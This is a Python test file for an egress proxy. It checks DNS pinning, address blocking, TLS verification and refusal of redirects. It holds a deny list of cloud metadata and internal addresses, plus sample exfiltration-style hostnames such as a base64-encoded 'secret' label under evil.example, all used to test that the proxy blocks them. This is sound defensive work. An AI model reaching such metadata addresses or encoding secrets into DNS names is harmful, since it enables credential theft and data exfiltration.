"""Where connections go: looked up once, only when allowed, the address checked and pinned, TLS verified."""

from __future__ import annotations

import asyncio
import socket
import threading
import time
from dataclasses import replace

import pytest

from bot_bottle.egress.labels import NEW_NAMES
from bot_bottle.sidecar.proxy.limits import Limits
from bot_bottle.testing.upstream import FakeUpstream

HOST = "api.example.com"
QUICK = Limits(sweep_s=0.02)


class Resolver:
    """Answers what the test says, and remembers what was asked."""

    def __init__(self, *answers: list[str] | Exception) -> None:
        self.answers = list(answers)
        self.asked: list[tuple[str, int]] = []

    async def __call__(self, host: str, port: int) -> list[str]:
        self.asked.append((host, port))
        answer = self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
        if isinstance(answer, Exception):
            raise answer
        return answer


def policy(port: int = 0, *, private: bool = False, host: str = HOST) -> str:
    lines = ["log: 1", "routes:", f"  - host: '{host}'"]
    if port:
        lines.append(f"    ports: [80, 443, {port}]")
    if private:
        lines.append("    allow_private: true")
    return "\n".join(lines) + "\n"


def ask(proxy, host: str = HOST, port: int = 80):
    client = proxy.connect()
    authority = host if port == 80 else f"{host}:{port}"
    client.send(f"GET http://{authority}/ HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    return client.answer()


NEVER = [
    "169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "fd00:ec2::254", "fd20:ce::254",
    "169.254.1.1", "fe80::1", "224.0.0.1", "ff02::1", "0.0.0.0", "::", "::ffff:169.254.169.254",
    "64:ff9b::a9fe:a9fe", "::169.254.169.254", "255.255.255.255",
]  # fmt: skip
PRIVATE = ["10.0.0.1", "172.16.0.1", "192.168.1.1", "fd12::1", "::ffff:10.0.0.1"]
LOOPBACK = ["127.0.0.1", "127.9.9.9", "::1", "::ffff:127.0.0.1"]


@pytest.mark.parametrize("address", [*NEVER, *PRIVATE, *LOOPBACK])
def test_a_name_that_resolves_inwards_is_refused(run_proxy, address):
    """DNS rebinding (threats B5): the resolved address is judged, not the name."""
    resolver = Resolver([address])
    answer = ask(run_proxy(policy(), resolver=resolver))
    assert answer.status == 403
    assert answer.reason.startswith("egress: address")
    assert resolver.asked == [(HOST, 80)]


@pytest.mark.parametrize("address", NEVER)
def test_some_addresses_are_never_reached(run_proxy, address):
    """Not with ``allow_private`` either, and not by ``--connect-to`` (ruling 2)."""
    assert ask(run_proxy(policy(private=True), resolver=Resolver([address]))).status == 403
    named = run_proxy(policy(), connect_to={(HOST, 80): (address, 80)})
    assert ask(named).status == 403


def test_an_answer_that_mixes_public_and_private_is_refused_whole(run_proxy):
    proxy = run_proxy(policy(), resolver=Resolver(["93.184.216.34", "127.0.0.1"]))
    answer = ask(proxy)
    assert (answer.status, answer.reason.startswith("egress: address")) == (403, True)


def test_a_denied_name_is_never_looked_up(run_proxy):
    """Threats B1: no query leaves for a name without a route, whatever the labels say."""
    resolver = Resolver(["93.184.216.34"])
    proxy = run_proxy(policy(), resolver=resolver)
    assert ask(proxy, "c2VjcmV0.evil.example").status == 403
    client = proxy.tls("c2VjcmV0.evil.example")
    client.send(b"GET / HTTP/1.1\r\nHost: c2VjcmV0.evil.example\r\n\r\n")
    assert client.answer().status == 403
    assert resolver.asked == []


def test_loopback_with_explicit_ports_and_allow_private_is_dialled_as_resolved(run_proxy, plain_upstream):
    """The name is looked up once for the connection, and that address is dialled."""
    resolver = Resolver(["127.0.0.1"], ["127.0.0.2"])
    proxy = run_proxy(policy(plain_upstream.port, private=True), resolver=resolver)
    client = proxy.connect()
    for _ in range(3):
        client.send(
            f"GET http://{HOST}:{plain_upstream.port}/ HTTP/1.1\r\n"
            f"Host: {HOST}:{plain_upstream.port}\r\n\r\n".encode()
        )
        assert client.answer().status == 200
    assert resolver.asked == [(HOST, plain_upstream.port)]
    assert plain_upstream.accepted == 1
    assert plain_upstream.requests[0].header("host") == f"{HOST}:{plain_upstream.port}"


def test_a_reload_ends_a_connection_to_an_address_that_is_no_longer_open(run_proxy, plain_upstream):
    """The host stays allowed; a reload that changes nothing about it leaves its idle connection alone."""
    port = plain_upstream.port
    proxy = run_proxy(policy(port, private=True), resolver=Resolver(["127.0.0.1"]))
    client = proxy.connect()
    for more in ("", "  - host: other.example\n"):
        proxy.reload(policy(port, private=True) + more)
        client.send(f"GET http://{HOST}:{port}/ HTTP/1.1\r\nHost: {HOST}:{port}\r\n\r\n".encode())
        assert client.answer().status == 200
    assert plain_upstream.accepted == 1
    proxy.reload(policy(port))
    assert client.is_closed()
    assert ask(proxy, port=port).status == 403
    assert len(plain_upstream.requests) == 2


def test_the_operators_machine_is_reached_by_its_name_on_named_ports(run_proxy, plain_upstream):
    """Ruling 8; nobody is asked for the name."""
    resolver = Resolver(OSError("no name"))
    name = "host.bot-bottle.internal"
    proxy = run_proxy(policy(plain_upstream.port, host=name), resolver=resolver)
    assert ask(proxy, name, plain_upstream.port).status == 200
    assert resolver.asked == []


def test_the_products_own_ports_are_refused(run_proxy, plain_upstream):
    proxy = run_proxy(
        policy(plain_upstream.port, private=True),
        resolver=Resolver(["127.0.0.1"]),
        refuse_ports=(plain_upstream.port,),
    )
    assert ask(proxy, port=plain_upstream.port).status == 403
    named = run_proxy(
        policy(),
        connect_to={(HOST, 80): ("127.0.0.1", plain_upstream.port)},
        refuse_ports=(plain_upstream.port,),
    )
    assert ask(named).status == 403
    assert plain_upstream.accepted == 0


def test_an_address_literal_needs_a_route_that_names_it(run_proxy, plain_upstream):
    port = plain_upstream.port
    assert ask(run_proxy(policy(port, private=True)), "127.0.0.1", port).status == 403
    named = run_proxy(policy(port, private=True, host="127.0.0.1"))
    assert ask(named, "127.0.0.1", port).status == 200


@pytest.mark.parametrize(
    "answer", [OSError("NXDOMAIN"), [], ["not an address"], UnicodeError("label too long")]
)
def test_a_name_without_an_address_is_502(run_proxy, answer):
    found = ask(run_proxy(policy(), resolver=Resolver(answer)))
    assert (found.status, found.reason.startswith("egress: upstream")) == (502, True)
    assert set(found.json()) == {"error", "reason", "host", "method", "path", "hint"}


def test_a_refused_connection_is_502_and_the_next_address_is_tried(run_proxy, plain_upstream):
    with socket.socket() as closed:
        closed.bind(("127.0.0.9", plain_upstream.port))  # bound, not listening
        resolver = Resolver(["127.0.0.9"], ["127.0.0.9", "127.0.0.1"])
        proxy = run_proxy(policy(plain_upstream.port, private=True), resolver=resolver)
        assert ask(proxy, port=plain_upstream.port).status == 502
        assert ask(proxy, port=plain_upstream.port).status == 200


def test_an_upstream_that_does_not_accept_is_504(run_proxy):
    """A look-up, a connection or a handshake that takes longer than ``connect_s``."""

    async def never(host: str, port: int) -> list[str]:
        await asyncio.sleep(60)
        return []

    answer = ask(run_proxy(policy(), resolver=never, limits=replace(QUICK, connect_s=0.1)))
    assert (answer.status, answer.json()["error"]) == (504, "upstream_timeout")


def test_a_handshake_that_never_ends_is_504(run_proxy, to):
    with socket.create_server(("127.0.0.1", 0)) as silent:
        fake = FakeUpstream.__new__(FakeUpstream)
        fake.address, fake.port = silent.getsockname()
        proxy = run_proxy(policy(), connect_to=to(fake, (HOST, 443)), limits=replace(QUICK, connect_s=0.1))
        client = proxy.tls(HOST)
        client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
        assert client.answer().status == 504


def test_certificates_are_always_verified(run_proxy, to):
    """An unknown authority, and a certificate for another name: 502, no request is sent."""
    for options in ({}, {"certificate_for": "other.example.com"}):
        with FakeUpstream(**options) as fake:
            trusted = {"upstream": fake} if options else {}
            proxy = run_proxy(policy(), connect_to=to(fake, (HOST, 443)), **trusted)
            client = proxy.tls(HOST)
            client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
            answer = client.answer()
            assert answer.status == 502
            assert "certificate" in answer.reason
            assert fake.raw == b""


def test_redirects_are_not_followed(run_proxy, to):
    """Threats C8: the client gets the 302 and is judged again when it follows."""
    with FakeUpstream(
        responder=lambda request, connection: connection.reply(
            302, b"", [("Location", "http://evil.example/")]
        )
    ) as fake:
        pairs = to(fake, (HOST, 443), ("evil.example", 80))
        proxy = run_proxy(policy(), upstream=fake, connect_to=pairs)
        client = proxy.tls(HOST)
        client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
        answer = client.answer()
        assert (answer.status, answer.headers["location"]) == (302, "http://evil.example/")
        assert fake.accepted == 1
        assert ask(proxy, "evil.example").status == 403


def test_connect_to_may_name_loopback(run_proxy, plain_upstream, to):
    """The operator's word is exempt from the address guard, except for the never-list."""
    proxy = run_proxy(policy(), connect_to=to(plain_upstream, (HOST, 80)), resolver=Resolver(OSError("no")))
    assert ask(proxy).status == 200


@pytest.mark.parametrize("where", ["look-up", "handshake"])
def test_a_client_that_goes_while_its_upstream_is_opened_leaves_nothing(run_proxy, where):
    """The look-up or handshake is given up; no socket and no request in flight is left."""
    started = threading.Event()

    async def slow(host: str, port: int) -> list[str]:
        started.set()
        await asyncio.sleep(60)
        return []

    with socket.create_server(("127.0.0.1", 0)) as silent:
        options = (
            {"resolver": slow} if where == "look-up" else {"connect_to": {(HOST, 443): silent.getsockname()}}
        )
        proxy = run_proxy(policy(), **options)
        client = proxy.tls(HOST)
        client.send(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
        if where == "handshake":
            silent.settimeout(10)
            upstream_side, _ = silent.accept()
            assert upstream_side.recv(1) == b"\x16"
        else:
            assert started.wait(10)
        assert proxy.server.active == 1
        client.close()
        if where == "handshake":
            upstream_side.settimeout(10)
            try:
                while upstream_side.recv(65536):
                    pass
            except ConnectionError:
                pass
            upstream_side.close()
        until = time.monotonic() + 10
        while proxy.server.active and time.monotonic() < until:
            time.sleep(0.01)
        assert proxy.server.active == 0


def test_names_made_up_below_a_wildcard_are_few(run_proxy):
    """Threats B2: one that looks encoded is never looked up; after so many others, no new one is."""
    resolver = Resolver(["127.0.0.1"])
    wildcard = policy(host="*.example.com")
    proxy = run_proxy(wildcard, resolver=resolver)
    assert "looks encoded" in ask(proxy, "mfzwizltoqydcmrtgq2tmnzy.example.com").reason
    assert resolver.asked == []
    answers = [ask(proxy, f"n{number}.example.com") for number in range(NEW_NAMES + 3)]
    assert [host for host, _ in resolver.asked] == [f"n{number}.example.com" for number in range(NEW_NAMES)]
    assert all(answer.reason.startswith("egress: address") for answer in answers[:NEW_NAMES])
    assert all("new names" in answer.reason for answer in answers[NEW_NAMES:])
    proxy.reload(wildcard)
    assert "new names" in ask(proxy, "x.example.com").reason
    assert ask(proxy, "n0.example.com").reason.startswith("egress: address")
